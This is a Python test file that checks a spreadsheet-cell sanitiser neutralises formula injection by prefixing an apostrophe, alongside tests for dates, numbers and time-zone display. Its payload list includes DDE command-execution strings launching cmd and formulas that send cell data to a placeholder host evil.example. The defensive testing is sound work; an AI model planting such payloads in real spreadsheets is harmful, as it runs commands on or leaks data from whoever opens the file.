from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from followup.documents.cells import safe, wall_clock

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=WEBSERVICE(CONCATENATE(\"http://evil.example/\",A2))",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+1",
    "+46 63 14 00 00",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\x00=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫a",
    "=",
    "-",
    "=\"a\";=1",
]  # fmt: skip
HARMLESS = ["", "Region Skåne", "1-2", "a=b", "anna@example.org", "'quoted'", "3,5", "–", "−5", " text", "RS/12/2026"]


@pytest.mark.parametrize("text", PAYLOADS, ids=ascii)
def test_what_a_spreadsheet_could_run_begins_with_an_apostrophe(text: str) -> None:
    assert safe(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert safe(text) == text


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_the_text_is_the_original_after_one_apostrophe(text: str) -> None:
    kept = safe(text)
    assert kept in (text, f"'{text}")
    assert not str(kept).lstrip("\ufeff\u200b \u00a0\0").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋"))


@pytest.mark.parametrize("value", [-5, 0, Decimal("-12.50"), date(2026, 3, 2), datetime(2026, 3, 2, tzinfo=UTC), None])
def test_numbers_and_dates_stay_what_they_are(value: int | Decimal | date | None) -> None:
    assert safe(value) is value


def test_yes_and_no_become_numbers() -> None:
    assert (safe(True), safe(False)) == (1, 0)
    assert type(safe(True)) is int


def test_half_a_letter_does_not_break_the_file() -> None:
    assert safe("a\ud800b") == "a\ufffdb"


@pytest.mark.parametrize(
    ("instant", "shown"),
    [
        (datetime(2026, 3, 2, 8, tzinfo=UTC), "2026-03-02T09:00:00"),
        (datetime(2026, 7, 1, 22, 30, tzinfo=UTC), "2026-07-02T00:30:00"),
        (datetime(2025, 12, 31, 23, tzinfo=UTC), "2026-01-01T00:00:00"),
    ],
)
def test_instants_are_shown_as_clocks_show_them(instant: datetime, shown: str) -> None:
    assert wall_clock(instant).isoformat() == shown
